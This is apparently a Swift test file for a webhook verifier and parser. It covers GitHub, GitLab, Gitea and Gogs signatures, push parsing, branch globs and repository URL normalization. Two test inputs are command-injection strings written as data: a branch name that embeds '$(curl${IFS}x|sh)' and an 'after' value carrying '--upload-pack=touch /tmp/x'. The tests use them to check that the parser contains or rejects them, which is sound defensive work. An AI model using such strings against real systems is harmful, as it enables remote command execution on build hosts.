import Foundation
import GobayCore
import Testing

/// The shared webhook fixtures: `<repo root>/../shared/fixtures/webhooks`, found from this file's path.
private func fixturesDirectory(filePath: String = #filePath) throws -> URL {
    var directory = URL(fileURLWithPath: filePath).deletingLastPathComponent()
    while !FileManager.default.fileExists(atPath: directory.appendingPathComponent("Package.swift").path) {
        let parent = directory.deletingLastPathComponent()
        try #require(parent.path != directory.path, "no Package.swift above \(filePath)")
        directory = parent
    }
    return directory.deletingLastPathComponent().appendingPathComponent("shared/fixtures/webhooks")
}

/// The bytes of one fixture, exactly as stored.
private func fixture(_ name: String) throws -> Data {
    try Data(contentsOf: fixturesDirectory().appendingPathComponent(name))
}

/// The push inside `event`, or a recorded failure.
private func requirePush(_ event: WebhookEvent) throws -> PushEvent {
    guard case .push(let push) = event else {
        Issue.record("expected a push, got \(event)")
        throw GobayError("not a push")
    }
    return push
}

/// `body` with its byte at `index` changed.
private func flipped(_ body: Data, at index: Int) -> Data {
    var copy = body
    copy[copy.startIndex + index] ^= 0x01
    return copy
}

private let fixtureSecret = "IsWishesWereHorsesWedAllBeEatingSteak!"
private let zeros = String(repeating: "0", count: 40)

@Suite("webhooks: verification and parsing")
struct WebhookTests {
    // MARK: verification

    @Test func githubDocsVector() {
        let body = Data("Hello, World!".utf8)
        let headers = ["x-hub-signature-256": "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"]
        #expect(
            WebhookVerifier.verify(
                sender: .github, headers: headers, body: body, secrets: ["It's a Secret to Everybody"]))
        #expect(
            !WebhookVerifier.verify(
                sender: .github, headers: headers, body: body, secrets: ["It's a secret to everybody"]))
    }

    @Test func githubFixtureVector() throws {
        let body = try fixture("github-push.json")
        let signature = "sha256=abcee8ae5f5c28fc2e4d2a0ffe46115bf9dc9d7c2e34592846d9361fffb864d5"
        let headers = ["x-hub-signature-256": signature]
        #expect(WebhookVerifier.verify(sender: .github, headers: headers, body: body, secrets: [fixtureSecret]))
        #expect(WebhookVerifier.verify(sender: .github, headers: headers, body: body, secrets: ["old", fixtureSecret]))
        #expect(
            WebhookVerifier.verify(
                sender: .github, headers: ["x-hub-signature-256": signature.uppercased()], body: body,
                secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .github, headers: headers, body: body, secrets: ["wrong"]))
        #expect(
            !WebhookVerifier.verify(
                sender: .github, headers: headers, body: flipped(body, at: 100), secrets: [fixtureSecret]))
        #expect(
            !WebhookVerifier.verify(
                sender: .github, headers: headers, body: body + Data("\n".utf8), secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .github, headers: [:], body: body, secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .github, headers: headers, body: body, secrets: []))
        #expect(!WebhookVerifier.verify(sender: .github, headers: headers, body: body, secrets: [""]))
        // The bare hex without the prefix, or a truncated signature, is not GitHub's form.
        let bare = ["x-hub-signature-256": String(signature.dropFirst("sha256=".count))]
        #expect(!WebhookVerifier.verify(sender: .github, headers: bare, body: body, secrets: [fixtureSecret]))
        let short = ["x-hub-signature-256": String(signature.dropLast())]
        #expect(!WebhookVerifier.verify(sender: .github, headers: short, body: body, secrets: [fixtureSecret]))
        // Another forge's header does not count for GitHub.
        let gitea = ["x-gitea-signature": String(signature.dropFirst("sha256=".count))]
        #expect(!WebhookVerifier.verify(sender: .github, headers: gitea, body: body, secrets: [fixtureSecret]))
    }

    @Test func giteaFixtureVector() throws {
        let body = try fixture("gitea-push.json")
        let hex = "60fe446c74fa0cb9474f98cc557db79e10c7aaf22cf324ad65239600b9e4d915"
        let headers = ["x-gitea-signature": hex]
        #expect(WebhookVerifier.verify(sender: .gitea, headers: headers, body: body, secrets: [fixtureSecret]))
        #expect(
            WebhookVerifier.verify(
                sender: .gitea, headers: ["x-hub-signature-256": "sha256=" + hex], body: body, secrets: [fixtureSecret])
        )
        #expect(!WebhookVerifier.verify(sender: .gitea, headers: headers, body: body, secrets: ["wrong"]))
        #expect(
            !WebhookVerifier.verify(
                sender: .gitea, headers: headers, body: flipped(body, at: 0), secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .gitea, headers: [:], body: body, secrets: [fixtureSecret]))
        #expect(
            !WebhookVerifier.verify(
                sender: .gitea, headers: ["x-gitea-signature": "sha256=" + hex], body: body, secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .gitea, headers: headers, body: body, secrets: []))
    }

    @Test func gogsFixtureVector() throws {
        let body = try fixture("gogs-push.json")
        // SOURCES.md has no Gogs vector; this one is `openssl dgst -sha256 -hmac <secret> gogs-push.json`.
        let headers = ["x-gogs-signature": "1a6f08b223aa530954fa8b99c8598eb8c9a1ecf51bde563331ff9c879f74bf85"]
        #expect(WebhookVerifier.verify(sender: .gogs, headers: headers, body: body, secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .gogs, headers: headers, body: body, secrets: ["wrong"]))
        #expect(
            !WebhookVerifier.verify(
                sender: .gogs, headers: headers, body: flipped(body, at: body.count - 1), secrets: [fixtureSecret]))
        #expect(!WebhookVerifier.verify(sender: .gogs, headers: [:], body: body, secrets: [fixtureSecret]))
    }

    @Test func gitlabToken() throws {
        let body = try fixture("gitlab-push.json")
        let headers = ["x-gitlab-token": "s3cret-token"]
        #expect(WebhookVerifier.verify(sender: .gitlab, headers: headers, body: body, secrets: ["s3cret-token"]))
        #expect(
            WebhookVerifier.verify(sender: .gitlab, headers: headers, body: body, secrets: ["rotated", "s3cret-token"]))
        // The token is the whole secret: no prefix, no extension, no case folding.
        for wrong in ["s3cret-toke", "s3cret-token!", "S3CRET-TOKEN", "wrong", ""] {
            #expect(
                !WebhookVerifier.verify(sender: .gitlab, headers: headers, body: body, secrets: [wrong]), "\(wrong)")
        }
        #expect(!WebhookVerifier.verify(sender: .gitlab, headers: [:], body: body, secrets: ["s3cret-token"]))
        #expect(!WebhookVerifier.verify(sender: .gitlab, headers: headers, body: body, secrets: []))
        // An empty secret never opens the door, not even to an empty token.
        #expect(!WebhookVerifier.verify(sender: .gitlab, headers: ["x-gitlab-token": ""], body: body, secrets: [""]))
    }

    @Test func hexHMACMatchesFixtureVector() throws {
        let body = try fixture("gitea-push.json")
        #expect(
            WebhookVerifier.hexHMACSHA256(secret: fixtureSecret, body: body)
                == "60fe446c74fa0cb9474f98cc557db79e10c7aaf22cf324ad65239600b9e4d915")
    }

    // MARK: parsing the fixtures

    @Test func gitlabPush() throws {
        let event = try WebhookParser.parse(
            sender: .gitlab, headers: ["x-gitlab-event": "Push Hook"], body: fixture("gitlab-push.json"))
        let push = try requirePush(event)
        #expect(!push.isTag)
        #expect(push.ref == "refs/heads/master")
        #expect(push.name == "master")
        #expect(push.before == "95790bf891e76fee5e1747ab589903a6a1f80f22")
        #expect(push.after == "da1560886d4f094c3e6c9ef40349f7d38b5d27d7")
        #expect(!push.deleted)
        #expect(push.pusher == "jsmith")
        #expect(push.repositoryURLs.contains("http://example.com/mike/diaspora.git"))
        #expect(push.repositoryURLs.contains("git@example.com:mike/diaspora.git"))
        #expect(push.repositoryURLs.contains("http://example.com/mike/diaspora"))
        #expect(Set(push.repositoryURLs).count == push.repositoryURLs.count)
        #expect(push.repositoryURLs.allSatisfy { RepositoryURL.same($0, "https://EXAMPLE.com/mike/diaspora") })
    }

    @Test func gitlabTagPush() throws {
        let event = try WebhookParser.parse(
            sender: .gitlab, headers: ["x-gitlab-event": "Tag Push Hook"], body: fixture("gitlab-tag-push.json"))
        let push = try requirePush(event)
        #expect(push.isTag)
        #expect(push.ref == "refs/tags/v1.0.0")
        #expect(push.name == "v1.0.0")
        #expect(push.before == zeros)
        #expect(push.after == "82b3d5ae55f7080f1e6022629cdb57bfae7cccc7")
        #expect(!push.deleted)
        #expect(push.repositoryURLs.contains("http://example.com/jsmith/example.git"))
        #expect(push.repositoryURLs.contains("ssh://git@example.com/jsmith/example.git"))
    }

    @Test func githubPush() throws {
        let event = try WebhookParser.parse(
            sender: .github, headers: ["x-github-event": "push"], body: fixture("github-push.json"))
        let push = try requirePush(event)
        #expect(!push.isTag)
        #expect(push.ref == "refs/heads/master")
        #expect(push.name == "master")
        #expect(push.before == "737d38c599c1b2991664dfc6155d6bf516fcce36")
        #expect(push.after == "fd489864e7642b48eaad6e3f155c10e46810ec72")
        #expect(!push.deleted)
        #expect(push.pusher == "binkkatal")
        #expect(
            push.repositoryURLs == [
                "https://github.com/binkkatal/sample_app.git", "git@github.com:binkkatal/sample_app.git",
                "https://github.com/binkkatal/sample_app", "git://github.com/binkkatal/sample_app.git",
            ])
    }

    @Test func giteaPush() throws {
        let event = try WebhookParser.parse(
            sender: .gitea, headers: ["x-gitea-event": "push"], body: fixture("gitea-push.json"))
        let push = try requirePush(event)
        #expect(!push.isTag)
        #expect(push.ref == "refs/heads/master")
        #expect(push.name == "master")
        #expect(push.before == zeros)
        #expect(push.after == "67b56589a45103f891bdee7c0546e5d40bc02001")
        #expect(!push.deleted)
        #expect(push.pusher == "example")
        #expect(push.repositoryURLs.contains("http://localhost:3000/example/example.git"))
        #expect(push.repositoryURLs.contains("git@localhost:example/example.git"))
    }

    @Test func gogsPush() throws {
        let event = try WebhookParser.parse(
            sender: .gogs, headers: ["x-gogs-event": "push"], body: fixture("gogs-push.json"))
        let push = try requirePush(event)
        #expect(!push.isTag)
        #expect(push.ref == "refs/heads/develop")
        #expect(push.name == "develop")
        #expect(push.before == "28e1879d029cb852e4844d9c718537df08844e03")
        #expect(push.after == "bffeb74224043ba2feb48d137756c8a9331c449a")
        #expect(!push.deleted)
        #expect(push.pusher == "unknwon")
        #expect(push.repositoryURLs.contains("http://localhost:3000/unknwon/webhooks.git"))
        #expect(push.repositoryURLs.contains("ssh://unknwon@localhost:2222/unknwon/webhooks.git"))
    }

    // MARK: built payloads

    @Test func deletedBranch() throws {
        let gitlab = """
            {"object_kind":"push","before":"95790bf891e76fee5e1747ab589903a6a1f80f22","after":"\(zeros)",
             "ref":"refs/heads/feature/x","checkout_sha":null,"user_username":"jsmith",
             "project":{"git_http_url":"http://example.com/mike/diaspora.git","web_url":""}}
            """
        let push = try requirePush(
            WebhookParser.parse(sender: .gitlab, headers: ["x-gitlab-event": "Push Hook"], body: Data(gitlab.utf8)))
        #expect(push.deleted)
        #expect(push.after == zeros)
        #expect(push.name == "feature/x")
        #expect(push.repositoryURLs == ["http://example.com/mike/diaspora.git"])

        let github = """
            {"ref":"refs/tags/v2","before":"737d38c599c1b2991664dfc6155d6bf516fcce36","after":"\(zeros)",
             "deleted":true,"head_commit":null,"repository":{"clone_url":"https://github.com/o/r.git"},"pusher":{"name":"o"}}
            """
        let tag = try requirePush(
            WebhookParser.parse(sender: .github, headers: ["x-github-event": "push"], body: Data(github.utf8)))
        #expect(tag.deleted && tag.isTag && tag.name == "v2" && tag.after == zeros)

        // GitHub's own flag counts even where `after` is not the zero commit.
        let flagged = """
            {"ref":"refs/heads/old","before":"\(zeros)","after":"737d38c599c1b2991664dfc6155d6bf516fcce36","deleted":true}
            """
        let flaggedPush = try requirePush(
            WebhookParser.parse(sender: .github, headers: ["x-github-event": "push"], body: Data(flagged.utf8)))
        #expect(flaggedPush.deleted)
    }

    @Test func annotatedTagBuildsTheTaggedCommit() throws {
        let commit = "da1560886d4f094c3e6c9ef40349f7d38b5d27d7"
        let tagObject = "82b3d5ae55f7080f1e6022629cdb57bfae7cccc7"
        let gitlab = """
            {"ref":"refs/tags/v3","before":"\(zeros)","after":"\(tagObject)","checkout_sha":"\(commit)"}
            """
        let fromGitLab = try requirePush(
            WebhookParser.parse(sender: .gitlab, headers: ["x-gitlab-event": "Tag Push Hook"], body: Data(gitlab.utf8)))
        #expect(fromGitLab.isTag && fromGitLab.after == commit)
        let github = """
            {"ref":"refs/tags/v3","before":"\(zeros)","after":"\(tagObject)","head_commit":{"id":"\(commit)"}}
            """
        let fromGitHub = try requirePush(
            WebhookParser.parse(sender: .github, headers: ["x-github-event": "push"], body: Data(github.utf8)))
        #expect(fromGitHub.isTag && fromGitHub.after == commit)
        // A branch push keeps `after` even if checkout_sha says something else.
        let branch = """
            {"ref":"refs/heads/main","before":"\(zeros)","after":"\(tagObject)","checkout_sha":"\(commit)"}
            """
        let fromBranch = try requirePush(
            WebhookParser.parse(sender: .gitlab, headers: ["x-gitlab-event": "Push Hook"], body: Data(branch.utf8)))
        #expect(!fromBranch.isTag && fromBranch.after == tagObject)
    }

    @Test func hostileBranchNameIsCarriedAsData() throws {
        let body = """
            {"ref":"refs/heads/$(curl${IFS}x|sh)","before":"\(zeros)","after":"da1560886d4f094c3e6c9ef40349f7d38b5d27d7"}
            """
        let push = try requirePush(
            WebhookParser.parse(sender: .gogs, headers: ["x-gogs-event": "push"], body: Data(body.utf8)))
        #expect(push.name == "$(curl${IFS}x|sh)")
        #expect(GitRef.problem(push.name) != nil)
    }

    @Test func badBodiesThrow() throws {
        let headers = ["x-github-event": "push"]
        let cases: [(String, String)] = [
            ("{\"ref\": \"refs/heads/main\",", "not valid JSON"),
            ("payload=%7B%22ref%22%3A%22refs%2Fheads%2Fmain%22%7D", "not valid JSON"),
            ("", "not valid JSON"),
            ("[{\"ref\": \"refs/heads/main\"}]", "not an object"),
            ("\"refs/heads/main\"", "not an object"),
            ("{\"after\": \"da1560886d4f094c3e6c9ef40349f7d38b5d27d7\"}", "no \"ref\" field"),
            ("{\"ref\": \"refs/heads/main\"}", "no \"after\" field"),
            ("{\"ref\": \"refs/heads/main\", \"after\": null}", "no \"after\" field"),
            ("{\"ref\": 7, \"after\": \"da1560886d4f094c3e6c9ef40349f7d38b5d27d7\"}", "\"ref\" is not a string"),
            ("{\"ref\": \"refs/heads/main\", \"after\": \"--upload-pack=touch /tmp/x\"}", "\"after\""),
            ("{\"ref\": \"refs/heads/\", \"after\": \"da1560886d4f094c3e6c9ef40349f7d38b5d27d7\"}", "no branch or tag"),
        ]
        for (body, expected) in cases {
            let error = #expect(throws: GobayError.self, "\(body)") {
                try WebhookParser.parse(sender: .github, headers: headers, body: Data(body.utf8))
            }
            #expect(error?.message.contains(expected) == true, "\(body): \(String(describing: error))")
            #expect(error?.message.hasPrefix("github ") == true)
            #expect(error?.hint != nil)
        }
    }

    @Test func missingEventHeaderThrows() throws {
        let error = #expect(throws: GobayError.self) {
            try WebhookParser.parse(sender: .gitlab, headers: [:], body: fixture("gitlab-push.json"))
        }
        #expect(error?.message == "gitlab webhook has no X-Gitlab-Event header")
    }

    @Test func otherEventsAreIgnored() throws {
        let mergeRequest = try WebhookParser.parse(
            sender: .gitlab, headers: ["x-gitlab-event": "Merge Request Hook"], body: Data("{}".utf8))
        #expect(mergeRequest == .ignored("event \"Merge Request Hook\" is not handled"))
        let ping = try WebhookParser.parse(
            sender: .github, headers: ["x-github-event": "ping"], body: Data("{\"zen\":\"Design for failure.\"}".utf8))
        guard case .ignored(let reason) = ping else {
            Issue.record("ping gave \(ping)")
            return
        }
        #expect(reason.contains("ping"))
        let issues = try WebhookParser.parse(sender: .github, headers: ["x-github-event": "issues"], body: Data())
        #expect(issues == .ignored("event \"issues\" is not handled"))
        let create = try WebhookParser.parse(
            sender: .gitea, headers: ["x-gitea-event": "create"], body: fixture("gitea-push.json"))
        guard case .ignored = create else {
            Issue.record("gitea create gave \(create)")
            return
        }
        // A push to something that is neither a branch nor a tag.
        let notes = """
            {"ref":"refs/notes/commits","before":"\(zeros)","after":"da1560886d4f094c3e6c9ef40349f7d38b5d27d7"}
            """
        let notesEvent = try WebhookParser.parse(
            sender: .github, headers: ["x-github-event": "push"], body: Data(notes.utf8))
        #expect(notesEvent == .ignored("ref \"refs/notes/commits\" is neither a branch nor a tag"))
    }

    // MARK: delivery ids

    @Test func deliveryIDs() {
        #expect(
            WebhookParser.deliveryID(
                sender: .gitlab, headers: ["idempotency-key": "idem-1", "x-gitlab-event-uuid": "uuid-1"]) == "idem-1")
        #expect(WebhookParser.deliveryID(sender: .gitlab, headers: ["x-gitlab-event-uuid": "uuid-1"]) == "uuid-1")
        #expect(
            WebhookParser.deliveryID(sender: .github, headers: ["x-github-delivery": "72d3162e-cc78"])
                == "72d3162e-cc78")
        #expect(WebhookParser.deliveryID(sender: .gitea, headers: ["x-gitea-delivery": "gitea-1"]) == "gitea-1")
        #expect(WebhookParser.deliveryID(sender: .gogs, headers: ["x-gogs-delivery": "gogs-1"]) == "gogs-1")
        for sender in WebhookSender.allCases {
            #expect(WebhookParser.deliveryID(sender: sender, headers: ["idempotency-key": "generic"]) == "generic")
            #expect(WebhookParser.deliveryID(sender: sender, headers: [:]) == nil)
            #expect(WebhookParser.deliveryID(sender: sender, headers: ["idempotency-key": ""]) == nil)
        }
        // Another forge's header is not this forge's delivery id.
        #expect(WebhookParser.deliveryID(sender: .github, headers: ["x-gitea-delivery": "gitea-1"]) == nil)
    }

    // MARK: branch filters

    @Test(arguments: [
        ("main", "main", true),
        ("main", "main2", false),
        ("main", "mai", false),
        ("release/*", "release/1.2", true),
        ("release/*", "release/1/2", false),
        ("release/*", "release", false),
        ("release/*", "release/", true),
        ("*", "main", true),
        ("*", "feature/a", false),
        ("**", "feature/a/b", true),
        ("**", "main", true),
        ("feature/**", "feature/a/b", true),
        ("feature/**", "feature/a", true),
        ("feature/**", "features/a", false),
        ("**/hotfix", "hotfix", true),
        ("**/hotfix", "a/b/hotfix", true),
        ("**/hotfix", "a/bhotfix", false),
        ("v?.*", "v1.2", true),
        ("v?.*", "v10.2", false),
        ("a?b", "a/b", false),
        ("v[0-9].*", "v1.0", true),
        ("v[0-9].*", "vx.0", false),
        ("[!d]*", "main", true),
        ("[!d]*", "dev", false),
        ("[abc]", "b", true),
        ("[abc]", "d", false),
        ("a[", "a[", true),
        ("*-rc*", "v1.0-rc2", true),
        ("*/*/*", "a/b/c", true),
        ("*/*/*", "a/b", false),
        ("", "", true),
        ("", "main", false),
    ])
    func refGlob(pattern: String, name: String, expected: Bool) {
        #expect(RefGlob.matches(pattern: pattern, name: name) == expected)
    }

    // MARK: repository URLs

    @Test func sameRepositoryHoweverSpelled() {
        let spellings = [
            "git@gitlab.example.com:mike/diaspora.git",
            "https://gitlab.example.com/mike/diaspora",
            "ssh://git@gitlab.example.com/mike/diaspora.git",
            "http://gitlab.example.com/mike/diaspora.git/",
            "https://user:pass@GitLab.Example.COM/mike/diaspora.git",
            "ssh://git@gitlab.example.com:2222/mike/diaspora.git",
            "https://gitlab.example.com:443/mike/diaspora",
            "git://gitlab.example.com/mike/diaspora.git",
            "  https://gitlab.example.com//mike/diaspora/  ",
        ]
        for spelling in spellings {
            #expect(RepositoryURL.normalize(spelling) == "gitlab.example.com/mike/diaspora", "\(spelling)")
            #expect(RepositoryURL.same(spelling, spellings[0]), "\(spelling)")
        }
        #expect(RepositoryURL.same("/srv/git/a.git", "file:///srv/git/a.git"))
        #expect(RepositoryURL.same("/srv/git/a.git/", "/srv/git/./b/../a.git"))
        #expect(RepositoryURL.normalize("file:///srv/git/a.git") == "/srv/git/a.git")
        #expect(RepositoryURL.normalize("file://localhost/srv/git/a.git") == "/srv/git/a.git")
    }

    @Test func differentRepositoriesDiffer() {
        let base = "https://gitlab.example.com/mike/diaspora"
        for other in [
            "https://gitlab.example.com/mike/diaspora2",
            "https://gitlab.example.com/jane/diaspora",
            "https://gitlab.other.com/mike/diaspora",
            "https://gitlab.example.com:8443/mike/diaspora",
            "git@gitlab.example.com:mike/diaspora-fork.git",
            "https://gitlab.example.com/mike",
            "/srv/git/diaspora",
            "",
        ] {
            #expect(!RepositoryURL.same(base, other), "\(other)")
        }
        #expect(!RepositoryURL.same("/srv/git/a.git", "/srv/git/b.git"))
        #expect(!RepositoryURL.same("", ""))
    }
}
